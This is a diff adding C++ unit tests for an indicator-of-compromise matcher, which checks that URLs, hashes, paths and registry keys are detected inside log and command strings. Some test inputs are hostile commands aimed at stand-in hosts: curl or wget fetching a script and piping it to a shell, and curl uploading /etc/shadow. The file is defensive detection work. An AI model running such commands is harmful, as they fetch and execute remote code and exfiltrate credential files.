@@ -235,6 +235,52 @@ TEST(Indicators, CommonWordsOnlyInFieldsNamedForThem) {
   EXPECT_TRUE(is_found(Kind::ja4, "t13d1516h2_8daaf6152771_e5627efa2ab1", "ja4=t13d1516h2_8daaf6152771_e5627efa2ab1"));
 }
 
+TEST(Indicators, UrlsEndBeforeMarksThatShellsAndListsHave) {
+  const auto is = [](const std::string& url, const std::string& value) { return is_found(Kind::url, url, value); };
+  EXPECT_TRUE(is("http://e1.example/x.sh", "curl -s http://e1.example/x.sh|bash"));
+  EXPECT_TRUE(is("http://e2.example/x.sh", "wget http://e2.example/x.sh;sh x.sh"));
+  EXPECT_TRUE(is("http://e2.example/x.sh", "(wget http://e2.example/x.sh)&&sh x.sh"));
+  EXPECT_TRUE(is("http://a.example/x;j=1,2|3", "http://a.example/x;j=1,2|3"));
+  EXPECT_TRUE(is("http://n3.example/m", "GET /c=cd+/tmp;wget+http://n3.example/m;chmod+777+m"));
+  EXPECT_TRUE(is("git+ssh://g.example/x", "git+ssh://g.example/x"));
+  EXPECT_TRUE(is("http://e.example/a", R"(iwr \"http://e.example/a\")"));
+  EXPECT_TRUE(is("http://e.example/a?b=1&c=2", R"({"u":"http://e.example/a?b=1\u0026c=2"})"));
+  EXPECT_TRUE(is("http://e.example/a", "/r?u%3Dhttp://e.example/a"));
+  EXPECT_TRUE(is("http://e.example/a", "href=&quot;http://e.example/a&quot;"));
+  std::string list;
+  for (int i = 0; i < 100; ++i) list += "http://l" + std::to_string(i) + ".example/p,";
+  for (int i = 0; i < 100; ++i) EXPECT_TRUE(is("http://l" + std::to_string(i) + ".example/p", list)) << i;
+}
+
+TEST(Indicators, WhatStandsBesideEscapesAndMarksIsFound) {
+  EXPECT_TRUE(is_found(Kind::md5, kMd5, R"(sum\n)" + kMd5 + R"(\nfrom\tevil.example)"));
+  EXPECT_TRUE(is_found(Kind::md5, kMd5, "varbinary 0x" + kMd5));
+  EXPECT_TRUE(is_found(Kind::md5, kMd5, "\x1b[1m" + kMd5 + "\x1b[0m"));
+  EXPECT_TRUE(is_found(Kind::domain, "evil.example", R"(sum\n1\nfrom\tevil.example)"));
+  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "1#011evil.example#012end"));
+  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "PACKET Q [0001] A (3)www(4)evil(7)example(0)"));
+  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "\u8fde\u63a5\u5230evil.example\u5931\u8d25"));
+  EXPECT_TRUE(is_found(Kind::email, "q@evil.example", R"({"from":"\u003cq@evil.example\u003e"})"));
+  EXPECT_TRUE(is_found(Kind::file_name, "evil6.exe", R"(run \"evil6.exe\" now)"));
+  EXPECT_TRUE(is_found(Kind::path, "/opt/x/run.sh", "java#012/opt/x/run.sh#012 at y"));
+  EXPECT_TRUE(is_found(Kind::path, "C:\\x\\a.exe", R"(Error at C:\x\a.exe\n at y)"));
+  EXPECT_FALSE(is_found(Kind::file_name, "tdll.dll", R"(C:\Windows\System32\ntdll.dll)"));
+}
+
+TEST(Indicators, WhatCommandsNameBehindMarksAndOptions) {
+  EXPECT_TRUE(is_found(Kind::path, "/etc/shadow.tgz", "curl --data-binary @/etc/shadow.tgz -F f=@stolen.zip"));
+  EXPECT_TRUE(is_found(Kind::file_name, "stolen.zip", "curl --data-binary @/etc/shadow.tgz -F f=@stolen.zip"));
+  EXPECT_TRUE(is_found(Kind::path, "/tmp/e8", "curl -o/tmp/e8"));
+  EXPECT_TRUE(is_found(Kind::path, "C:\\out", "7z x a.7z -oC:\\out"));
+  EXPECT_TRUE(is_found(Kind::path, "/opt/interp", "#!/opt/interp -x"));
+  EXPECT_FALSE(is_found(Kind::path, "/x", "bob@/x") || is_found(Kind::path, "/x", "a-o/x"));
+  EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::7", "src:2001:db8::7 dst:2001:db8::8"));
+  EXPECT_FALSE(is_found(Kind::ipv6, "db8::7", "2001:db8::7"));
+  for (const char* value : {"HKCU\\x deleted", "HKCU\\x|y", "HKCU\\x, HKLM\\z"})
+    EXPECT_TRUE(is_found(Kind::registry_key, "HKCU\\x", value)) << value;
+  EXPECT_FALSE(is_found(Kind::registry_key, "HKCU\\x", "HKCU\\x y\\z"));
+}
+
 TEST(Indicators, EachOnceWithItsFirstFieldInOrder) {
   const auto set = set_of({{Kind::domain, "evil.example"}, {Kind::ipv4, "192.0.2.1"}});
   const IndicatorIndex index(set);
@@ -502,7 +548,44 @@ TEST(Indicators, EqualTheNaiveSearchOnRandomValues) {
       "http:\\/\\/evil.example\\/a?b",
       "file:///x/a.exe",
       "bob@host:/x/a.exe",
-      "HKCU\\x."};
+      "HKCU\\x.",
+      "|",
+      "&&",
+      ";http://evil.example/a?b",
+      "http://evil.example/a?b|",
+      "http://evil.example/a?b,",
+      "\\n",
+      "\\t",
+      "\\\"",
+      "\\\\\"",
+      "\\u003c",
+      "\\u0026",
+      "\\x22",
+      "#012",
+      "#011",
+      "&quot;",
+      "&#60;",
+      "&amp;",
+      "\x1b[31m",
+      "^[[0m",
+      "\\033[1m",
+      "(4)evil(7)example(0)",
+      "\uff08",
+      "\uff1a",
+      "\u3011",
+      "\u4e2d",
+      "f=@",
+      " -o",
+      "#!",
+      "$",
+      "!",
+      "src:",
+      "0x",
+      "n",
+      "t",
+      "HKCU\\x deleted",
+      "get+",
+      "x-"};
   const std::vector<std::string_view> fields{"f", "PipeName", "ServiceName", "User", "src_asn", "Computer"};
   std::mt19937 random(7);
   const auto below = [&](std::size_t n) { return static_cast<std::size_t>(random() % n); };
